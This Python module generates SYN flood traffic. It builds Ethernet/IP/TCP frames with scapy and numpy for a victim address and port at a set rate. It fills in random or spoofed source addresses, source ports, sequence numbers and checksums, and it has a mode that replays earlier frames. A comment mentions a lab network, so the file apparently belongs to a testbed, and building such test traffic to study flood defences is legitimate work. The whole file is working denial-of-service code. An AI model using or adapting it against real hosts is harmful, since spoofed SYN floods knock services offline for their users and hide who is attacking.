"""Frames of a SYN flood: a template built by scapy, and sources, ports, numbers and checksums by numpy."""

import ipaddress
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Literal

import numpy as np
import numpy.typing as npt

Sources = Literal["one", "hundred", "spoofed", "repeating"]
Bytes = npt.NDArray[np.uint8]

_ETHERNET = 14
_REPEATED_AFTER_S = 1.0


@dataclass(frozen=True, kw_only=True)
class FloodPlan:
    """What to send: `rate` SYNs a second for `seconds`."""

    sources: Sources
    rate: int
    seconds: float
    victim: str
    victim_mac: str
    port: int
    attacker_mac: str
    prefix: str
    """Where the sources of the unspoofed floods lie."""
    seed: int = 1


def make_frames(plan: FloodPlan) -> Bytes:
    """One frame a row, in the order of sending."""
    count = int(plan.rate * plan.seconds)
    frames = np.tile(np.frombuffer(_template(plan), np.uint8), (count, 1))
    random = np.random.default_rng(plan.seed)
    version = ipaddress.ip_address(plan.victim).version
    place, width = (_ETHERNET + 12, 4) if version == 4 else (_ETHERNET + 8, 16)
    tcp = _ETHERNET + (20 if version == 4 else 40)
    frames[:, place : place + width] = _SOURCES[plan.sources](plan, random, count)
    ports = random.integers(1024, 65_536, count, dtype=np.uint16)
    frames[:, tcp : tcp + 2] = ports.astype(">u2").view(np.uint8).reshape(-1, 2)
    frames[:, tcp + 4 : tcp + 8] = random.integers(0, 256, (count, 4), dtype=np.uint8)
    if plan.sources == "repeating":
        frames = _repeat(frames, int(plan.rate * _REPEATED_AFTER_S))
    if version == 4:
        _checksum(frames, _ETHERNET, _ETHERNET + 20, _ETHERNET + 10, 0)
    length = frames.shape[1] - tcp
    _checksum(frames, place, frames.shape[1], tcp + 16, 6 + length)
    return frames


def _template(plan: FloodPlan) -> bytes:
    from scapy.layers.inet import IP, TCP
    from scapy.layers.inet6 import IPv6
    from scapy.layers.l2 import Ether

    if ipaddress.ip_address(plan.victim).version == 4:
        network: Any = IP(src="0.0.0.0", dst=plan.victim)  # noqa: S104 - filled in for each frame
    else:
        network = IPv6(src="::", dst=plan.victim)
    segment = TCP(sport=1024, dport=plan.port, flags="S", options=[("MSS", 1460)])
    return bytes(Ether(src=plan.attacker_mac, dst=plan.victim_mac) / network / segment)


def _fixed(number: int) -> Callable[[FloodPlan, np.random.Generator, int], Bytes]:
    def sources(plan: FloodPlan, _: np.random.Generator, count: int) -> Bytes:
        first = ipaddress.ip_network(plan.prefix)[10]
        addresses = np.array([list((first + each).packed) for each in range(number)], np.uint8)
        return addresses[np.arange(count) % number]

    return sources


def _spoofed(plan: FloodPlan, random: np.random.Generator, count: int) -> Bytes:
    if ipaddress.ip_address(plan.victim).version == 6:
        addresses = random.integers(0, 256, (count, 16), dtype=np.uint8)
        addresses[:, 0] = 0x20  # global unicast
        return addresses
    addresses = random.integers(0, 256, (count, 4), dtype=np.uint8)
    addresses[:, 0] = random.integers(11, 127, count, dtype=np.uint8)  # neither the lab's nor loopback
    return addresses


_SOURCES: dict[Sources, Callable[[FloodPlan, np.random.Generator, int], Bytes]] = {
    "one": _fixed(1),
    "hundred": _fixed(100),
    "spoofed": _spoofed,
    "repeating": _spoofed,
}


def _repeat(frames: Bytes, distance: int) -> Bytes:
    """Every second frame is one that was sent `distance` frames before, once more."""
    distance += 1 - distance % 2
    places = np.arange(distance, len(frames))
    places = places[places % 2 == 1]
    repeated = frames.copy()
    repeated[places] = frames[places - distance]
    return repeated


def _checksum(frames: Bytes, begin: int, end: int, place: int, extra: int) -> None:
    """RFC 1071 over [begin, end) of every row, written at `place`; `extra` is added (pseudo header)."""
    frames[:, place : place + 2] = 0
    words = np.ascontiguousarray(frames[:, begin:end]).view(">u2").astype(np.uint32)
    total = words.sum(axis=1, dtype=np.uint32) + np.uint32(extra)
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    frames[:, place : place + 2] = (~total).astype(np.uint16).astype(">u2").view(np.uint8).reshape(-1, 2)
